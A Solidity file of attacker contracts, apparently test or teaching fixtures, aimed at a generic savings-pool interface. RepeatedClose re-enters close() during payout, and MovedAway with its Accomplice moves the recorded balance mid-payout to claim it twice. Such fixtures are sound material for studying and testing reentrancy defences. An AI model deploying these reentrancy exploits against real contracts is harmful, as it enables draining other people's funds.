// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

interface ISavingsPool {
    function deposit() external payable;

    function close() external;

    function move(address to, uint256 amount) external;

    function balanceOf(address saver) external view returns (uint256);
}

/// Calls close() again while close() is paying.
contract RepeatedClose {
    ISavingsPool immutable pool;
    uint256 left;

    constructor(ISavingsPool pool_) {
        pool = pool_;
    }

    function run(uint256 rounds) external payable {
        left = rounds;
        pool.deposit{value: msg.value}();
        pool.close();
        payable(msg.sender).transfer(address(this).balance);
    }

    receive() external payable {
        if (left > 0) {
            left--;
            pool.close();
        }
    }
}

/// Moves the savings to an accomplice while close() is paying for them.
contract MovedAway {
    ISavingsPool immutable pool;
    Accomplice immutable accomplice;

    constructor(ISavingsPool pool_) {
        pool = pool_;
        accomplice = new Accomplice(pool_);
    }

    function run(uint256 rounds) external payable {
        uint256 stake = msg.value;
        for (uint256 i = 0; i < rounds; i++) {
            pool.deposit{value: stake}();
            pool.close();
            accomplice.close();
        }
        payable(msg.sender).transfer(address(this).balance);
    }

    receive() external payable {
        if (msg.sender == address(pool)) pool.move(address(accomplice), pool.balanceOf(address(this)));
    }
}

contract Accomplice {
    ISavingsPool immutable pool;
    address immutable principal;

    constructor(ISavingsPool pool_) {
        pool = pool_;
        principal = msg.sender;
    }

    function close() external {
        pool.close();
        (bool ok, ) = principal.call{value: address(this).balance}("");
        require(ok);
    }

    receive() external payable {}
}
